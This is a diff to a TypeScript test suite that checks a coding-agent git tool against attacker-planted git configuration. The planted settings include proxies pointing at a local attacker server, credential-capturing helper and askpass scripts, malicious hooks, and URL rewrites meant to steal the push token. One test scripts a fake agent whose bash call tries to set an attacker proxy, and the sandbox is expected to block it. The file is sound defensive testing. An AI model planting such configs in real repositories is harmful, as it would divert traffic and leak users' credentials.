@@ -1,4 +1,4 @@
-import { execFile } from "node:child_process";
+import { execFile, execFileSync } from "node:child_process";
 import { randomBytes } from "node:crypto";
 import fs from "node:fs";
 import os from "node:os";
@@ -51,6 +51,25 @@ function captureScript(name: string): string {
   return file;
 }
 
+/** An askpass that answers every prompt (the control of the proxy with a user name). */
+function answerScript(): string {
+  const file = path.join(evil, "answer.sh");
+  fs.writeFileSync(file, "#!/bin/sh\necho proxy-password\n", { mode: 0o755 });
+  return file;
+}
+
+/** A new directory under the attacker's home, for the controls' scratch repositories. */
+function scratchDir(name: string): string {
+  return fs.mkdtempSync(path.join(home, `${name}-`));
+}
+
+/** An empty bare repository on disk to push to. */
+function scratchRemote(): string {
+  const dir = scratchDir("control-remote");
+  git(dir, "init", "-q", "--bare");
+  return dir;
+}
+
 function makePrivateRepo(name: string): string {
   const bare = makeBareRemote(served, name);
   git(bare, "config", "http.receivepack", "true");
@@ -70,16 +89,36 @@ function expectNoTokenAtAttacker(what: string, since: number): void {
   expect(TOKEN_FORMS.some((form) => captured.includes(form)), `${what}: a planted helper or hook got the token`).toBe(false);
 }
 
-/** The attack is live: the user's own git, with the planted config and no coding-mcp in between, goes to the attacker. */
-async function expectAttackIsLive(ws: string, what: string): Promise<void> {
-  const before = attacker.log.length;
-  // Asynchronously: the attacker answers from this very process. Without credentials the server
-  // refuses; what matters is where the request went.
-  await new Promise<void>((resolve) => {
-    const env = { PATH: process.env.PATH, HOME: home, XDG_CONFIG_HOME: h.env.XDG_CONFIG_HOME, GIT_TERMINAL_PROMPT: "0" };
-    execFile("git", ["ls-remote", "origin"], { cwd: ws, env, timeout: 30_000 }, () => resolve());
+/**
+ * Controls: each planted attack has its effect on the user's own git, run plainly with the planted
+ * config and no coding-mcp in between, so that "the attack was held" means something.
+ */
+function plainGit(cwd: string, args: string[], env: Record<string, string> = {}): Promise<void> {
+  // Asynchronously: the attacker and the git server answer from this very process. Whether git
+  // succeeds does not matter (without credentials the server refuses); what it did on the way does.
+  return new Promise<void>((resolve) => {
+    const base = { PATH: process.env.PATH!, HOME: home, XDG_CONFIG_HOME: h.env.XDG_CONFIG_HOME!, GIT_TERMINAL_PROMPT: "0" };
+    execFile("git", args, { cwd, env: { ...base, ...env }, timeout: 30_000 }, () => resolve());
   });
+}
+
+/** Plain git, talking to `url` (the workspace's origin when run in it), goes through the attacker. */
+async function reachesAttacker(what: string, cwd: string, url = "origin", env: Record<string, string> = {}): Promise<void> {
+  const before = attacker.log.length;
+  await plainGit(cwd, ["ls-remote", url], env);
   expect(attacker.log.length, `${what}: the planted config does not reach the attacker`).toBeGreaterThan(before);
+}
+
+/** Plain git runs the planted script (the capture file gets its path: `script` under the attacker's directory, or absolute). */
+async function runsPlanted(what: string, script: string, cwd: string, args: string[]): Promise<void> {
+  await plainGit(cwd, args);
+  const captured = fs.existsSync(capture) ? fs.readFileSync(capture, "utf8") : "";
+  expect(captured, `${what}: the planted ${script} did not run`).toContain(path.isAbsolute(script) ? script : path.join(evil, script));
+}
+
+/** Where a plain push of the workspace would go. */
+function pushUrls(ws: string): string[] {
+  return git(ws, "remote", "get-url", "--push", "--all", "origin").split("\n");
 }
 
 /** Runs every attack even when one fails, so that one run names every attack that gets through. */
@@ -131,28 +170,24 @@ interface Attack {
   plant(ws: string, repoUrl: string): void | Promise<void>;
   /** For attacks on where the connection goes: the push is refused with this error, and nothing is pushed. */
   refused?: RegExp;
-  /** Whether a plain `git ls-remote` with this config would go to the attacker (to show the attack is real). */
-  live?: boolean;
+  /** The control: the planted config has its effect on a plain git run (to show the attack is real). */
+  control(ws: string, repoUrl: string): Promise<void> | void;
 }
 
 const serverPrefix = () => `${server.baseUrl}/`;
 
 const pushAttacks: Attack[] = [
+  // The agent's own bash cannot write .git/config (its sandbox has it read-only: see the test below), but a
+  // config written before, or by an unconfined agent, is still there when coding-mcp pushes.
+  { name: "http.proxy", plant: (ws) => git(ws, "config", "http.proxy", attacker.baseUrl), control: (ws) => reachesAttacker("http.proxy", ws) },
   {
-    name: "http.proxy, set by the agent with its bash tool",
-    async plant() {
-      h.fake.setScenario("plant-proxy", [
-        { tools: [{ name: "bash", args: { command: `git config http.proxy ${attacker.baseUrl}`, description: "Configure git" } }] },
-        { text: "Configured git." },
-      ]);
-      structured(await h.call("code", { session_id: pushSession, task: "Set up git [[fake:plant-proxy]]" }));
-    },
-    live: true,
+    name: "http.proxy with a user name (git asks for the proxy's password)",
+    plant: (ws) => git(ws, "config", "http.proxy", attacker.baseUrl.replace("//", "//proxyuser@")),
+    // Without an askpass, git stops at the proxy's password prompt before connecting: the control gives it one.
+    control: (ws) => reachesAttacker("http.proxy with a user", ws, "origin", { GIT_ASKPASS: answerScript() }),
   },
-  // No liveness probe here: without askpass, git stops at the proxy's password prompt before connecting.
-  { name: "http.proxy with a user name (git asks for the proxy's password)", plant: (ws) => git(ws, "config", "http.proxy", attacker.baseUrl.replace("//", "//proxyuser@")) },
-  { name: "http.<url>.proxy for the server's URL", plant: (ws) => git(ws, "config", `http.${serverPrefix()}.proxy`, attacker.baseUrl), live: true },
-  { name: "remote.origin.proxy", plant: (ws) => git(ws, "config", "remote.origin.proxy", attacker.baseUrl), live: true },
+  { name: "http.<url>.proxy for the server's URL", plant: (ws) => git(ws, "config", `http.${serverPrefix()}.proxy`, attacker.baseUrl), control: (ws) => reachesAttacker("http.<url>.proxy", ws) },
+  { name: "remote.origin.proxy", plant: (ws) => git(ws, "config", "remote.origin.proxy", attacker.baseUrl), control: (ws) => reachesAttacker("remote.origin.proxy", ws) },
   {
     name: "http.proxy with TLS checks switched off and basic proxy auth",
     plant(ws) {
@@ -161,17 +196,37 @@ const pushAttacks: Attack[] = [
       git(ws, "config", "http.proxyAuthMethod", "basic");
       git(ws, "config", "http.emptyAuth", "true");
     },
-    live: true,
+    control: (ws) => reachesAttacker("http.proxy without TLS checks", ws),
   },
-  { name: "include.path to a file that sets http.proxy", plant: (ws) => git(ws, "config", "include.path", proxyInclude()), live: true },
-  { name: "includeIf.gitdir to a file that sets http.proxy", plant: (ws) => git(ws, "config", `includeIf.gitdir:${ws}/.path`, proxyInclude()), live: true },
-  { name: "http.proxy in the user's ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "http.proxy", attacker.baseUrl), live: true },
-  { name: "http.<url>.proxy in $XDG_CONFIG_HOME/git/config", plant: () => gitConfigFile(xdgConfig(), `http.${serverPrefix()}.proxy`, attacker.baseUrl), live: true },
-  { name: "include.path in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "include.path", proxyInclude()), live: true },
-  { name: "credential.helper that stores what it is given", plant: (ws) => git(ws, "config", "credential.helper", captureScript("helper.sh")) },
-  { name: "credential.<url>.helper for the server's URL", plant: (ws) => git(ws, "config", `credential.${serverPrefix()}.helper`, captureScript("url-helper.sh")) },
-  { name: "credential.helper in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "credential.helper", captureScript("global-helper.sh")) },
-  { name: "core.askPass", plant: (ws) => git(ws, "config", "core.askPass", captureScript("askpass.sh")) },
+  { name: "include.path to a file that sets http.proxy", plant: (ws) => git(ws, "config", "include.path", proxyInclude()), control: (ws) => reachesAttacker("include.path", ws) },
+  {
+    name: "includeIf.gitdir to a file that sets http.proxy",
+    plant: (ws) => git(ws, "config", `includeIf.gitdir:${ws}/.path`, proxyInclude()),
+    control: (ws) => reachesAttacker("includeIf.gitdir", ws),
+  },
+  { name: "http.proxy in the user's ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "http.proxy", attacker.baseUrl), control: (ws) => reachesAttacker("global http.proxy", ws) },
+  {
+    name: "http.<url>.proxy in $XDG_CONFIG_HOME/git/config",
+    plant: () => gitConfigFile(xdgConfig(), `http.${serverPrefix()}.proxy`, attacker.baseUrl),
+    control: (ws) => reachesAttacker("XDG http.<url>.proxy", ws),
+  },
+  { name: "include.path in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "include.path", proxyInclude()), control: (ws) => reachesAttacker("global include.path", ws) },
+  {
+    name: "credential.helper that stores what it is given",
+    plant: (ws) => git(ws, "config", "credential.helper", captureScript("helper.sh")),
+    control: (ws) => runsPlanted("credential.helper", "helper.sh", ws, ["ls-remote", "origin"]),
+  },
+  {
+    name: "credential.<url>.helper for the server's URL",
+    plant: (ws) => git(ws, "config", `credential.${serverPrefix()}.helper`, captureScript("url-helper.sh")),
+    control: (ws) => runsPlanted("credential.<url>.helper", "url-helper.sh", ws, ["ls-remote", "origin"]),
+  },
+  {
+    name: "credential.helper in ~/.gitconfig",
+    plant: () => gitConfigFile(globalConfig(), "credential.helper", captureScript("global-helper.sh")),
+    control: (ws) => runsPlanted("global credential.helper", "global-helper.sh", ws, ["ls-remote", "origin"]),
+  },
+  { name: "core.askPass", plant: (ws) => git(ws, "config", "core.askPass", captureScript("askpass.sh")), control: (ws) => runsPlanted("core.askPass", "askpass.sh", ws, ["ls-remote", "origin"]) },
   {
     name: "a pre-push hook, in .git/hooks and through core.hooksPath",
     plant(ws) {
@@ -182,17 +237,20 @@ const pushAttacks: Attack[] = [
       for (const hook of ["pre-push", "reference-transaction", "post-update"]) fs.chmodSync(path.join(evil, "hooks", hook), 0o755);
       gitConfigFile(globalConfig(), "core.hooksPath", path.join(evil, "hooks"));
     },
+    // A plain push (to a scratch repository on disk: the hook runs before anything is sent) runs it.
+    control: (ws) => runsPlanted("pre-push hook", "hooks/pre-push", ws, ["push", scratchRemote(), "HEAD:refs/heads/control"]),
   },
   {
     name: "url.<attacker>.pushInsteadOf the server's URL",
     plant: (ws) => git(ws, "config", `url.${attacker.baseUrl}/.pushInsteadOf`, serverPrefix()),
     refused: /not one of them|git\.token_hosts/,
+    control: (ws) => expect(pushUrls(ws)).toEqual([expect.stringMatching(new RegExp(`^${attacker.baseUrl}/`))]),
   },
   {
     name: "url.<attacker>.insteadOf the server's URL, in ~/.gitconfig",
     plant: () => gitConfigFile(globalConfig(), `url.${attacker.baseUrl}/.insteadOf`, serverPrefix()),
     refused: /not one of them|git\.token_hosts/,
-    live: true,
+    control: (ws) => reachesAttacker("global url.insteadOf", ws),
   },
   {
     name: "a second push URL that points to the attacker",
@@ -201,6 +259,7 @@ const pushAttacks: Attack[] = [
       git(ws, "config", "--add", "remote.origin.pushurl", `${attacker.baseUrl}/stolen.git`);
     },
     refused: /remote\.origin\.pushurl is set 2 times[\s\S]*nothing was pushed[\s\S]*config --unset-all remote\.origin\.pushurl/,
+    control: (ws, repoUrl) => expect(pushUrls(ws)).toEqual([repoUrl, `${attacker.baseUrl}/stolen.git`]),
   },
 ];
 
@@ -241,7 +300,7 @@ describe("coding_push with a workspace config written by the agent", () => {
         expect(attacker.log.length, `${attack.name}: the push went through the attacker`).toBe(seen);
       }
       expect(configWithoutUpstream(ws), `${attack.name}: .git/config changed`).toEqual(plantedConfig);
-      if (attack.live) await expectAttackIsLive(ws, attack.name);
+      await attack.control(ws, repoUrl);
     }, () => {
       fs.writeFileSync(path.join(ws, ".git", "config"), pristineConfig);
       fs.rmSync(path.join(ws, ".git", "hooks", "pre-push"), { force: true });
@@ -250,11 +309,38 @@ describe("coding_push with a workspace config written by the agent", () => {
   }, LOOP_TIMEOUT_MS);
 });
 
+describe("the agent's own bash", () => {
+  it("cannot write the workspace's .git/config (read-only in its sandbox), though the same command run plainly does", async () => {
+    const opened = structured(await h.call("coding_open", { repo_url: makePrivateRepo("sandboxed.git") }));
+    const ws: string = opened.workspace_path;
+    const before = fs.readFileSync(path.join(ws, ".git", "config"), "utf8");
+    const command = `git config http.proxy ${attacker.baseUrl}`;
+    h.fake.setScenario("plant-proxy", [{ tools: [{ name: "bash", args: { command, description: "Configure git" } }] }, { text: "Configured git." }]);
+    const result = structured(await h.call("code", { session_id: opened.session_id, task: "Set up git [[fake:plant-proxy]]" }));
+    expect(result.trace.tool_calls.map((c: { tool: string; status: string }) => `${c.tool}:${c.status}`)).toEqual(["bash:completed"]);
+    expect(result.trace.tool_calls[0].output_preview).toMatch(/could not (lock|write) config file/);
+    expect(fs.readFileSync(path.join(ws, ".git", "config"), "utf8")).toBe(before);
+    // Control: the very command, outside the agent's sandbox, plants the proxy.
+    execFileSync("sh", ["-c", command], { cwd: ws, env: { PATH: process.env.PATH!, HOME: home } });
+    expect(git(ws, "config", "http.proxy")).toBe(attacker.baseUrl);
+    structured(await h.call("coding_close", { session_id: opened.session_id }));
+  }, 120_000);
+});
+
+// The clone's controls run plain git outside any repository, against the repository's URL.
 const cloneAttacks: Attack[] = [
-  { name: "http.proxy in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "http.proxy", attacker.baseUrl) },
-  { name: "http.<url>.proxy in $XDG_CONFIG_HOME/git/config", plant: () => gitConfigFile(xdgConfig(), `http.${serverPrefix()}.proxy`, attacker.baseUrl) },
-  { name: "include.path in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "include.path", proxyInclude()) },
-  { name: "url.<attacker>.insteadOf the server's URL", plant: () => gitConfigFile(globalConfig(), `url.${attacker.baseUrl}/.insteadOf`, serverPrefix()) },
+  { name: "http.proxy in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "http.proxy", attacker.baseUrl), control: (_, url) => reachesAttacker("global http.proxy", home, url) },
+  {
+    name: "http.<url>.proxy in $XDG_CONFIG_HOME/git/config",
+    plant: () => gitConfigFile(xdgConfig(), `http.${serverPrefix()}.proxy`, attacker.baseUrl),
+    control: (_, url) => reachesAttacker("XDG http.<url>.proxy", home, url),
+  },
+  { name: "include.path in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "include.path", proxyInclude()), control: (_, url) => reachesAttacker("global include.path", home, url) },
+  {
+    name: "url.<attacker>.insteadOf the server's URL",
+    plant: () => gitConfigFile(globalConfig(), `url.${attacker.baseUrl}/.insteadOf`, serverPrefix()),
+    control: (_, url) => reachesAttacker("global url.insteadOf", home, url),
+  },
   {
     name: "init.templateDir with a post-checkout hook",
     plant() {
@@ -264,9 +350,22 @@ const cloneAttacks: Attack[] = [
       fs.chmodSync(path.join(hooks, "post-checkout"), 0o755);
       gitConfigFile(globalConfig(), "init.templateDir", path.join(evil, "template"));
     },
+    // A plain clone (of the repository on disk, needing no credentials) runs the template's hook.
+    control() {
+      const target = path.join(scratchDir("control-clone"), "clone");
+      return runsPlanted("init.templateDir", path.join(target, ".git", "hooks", "post-checkout"), home, ["clone", "-q", path.join(served, "cloned.git"), target]);
+    },
   },
-  { name: "credential.helper in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "credential.helper", captureScript("clone-helper.sh")) },
-  { name: "core.askPass in ~/.gitconfig", plant: () => gitConfigFile(globalConfig(), "core.askPass", captureScript("clone-askpass.sh")) },
+  {
+    name: "credential.helper in ~/.gitconfig",
+    plant: () => gitConfigFile(globalConfig(), "credential.helper", captureScript("clone-helper.sh")),
+    control: (_, url) => runsPlanted("global credential.helper", "clone-helper.sh", home, ["ls-remote", url]),
+  },
+  {
+    name: "core.askPass in ~/.gitconfig",
+    plant: () => gitConfigFile(globalConfig(), "core.askPass", captureScript("clone-askpass.sh")),
+    control: (_, url) => runsPlanted("global core.askPass", "clone-askpass.sh", home, ["ls-remote", url]),
+  },
 ];
 
 describe("a clone into a session with a global config written by the agent", () => {
@@ -283,6 +382,7 @@ describe("a clone into a session with a global config written by the agent", () 
       expect(git(opened.workspace_path, "remote", "get-url", "origin"), attack.name).toBe(repoUrl);
       expect(attacker.log.length, `${attack.name}: the clone went through the attacker`).toBe(seen);
       structured(await h.call("coding_close", { session_id: opened.session_id }));
+      await attack.control("", repoUrl);
     });
   }, LOOP_TIMEOUT_MS);
 
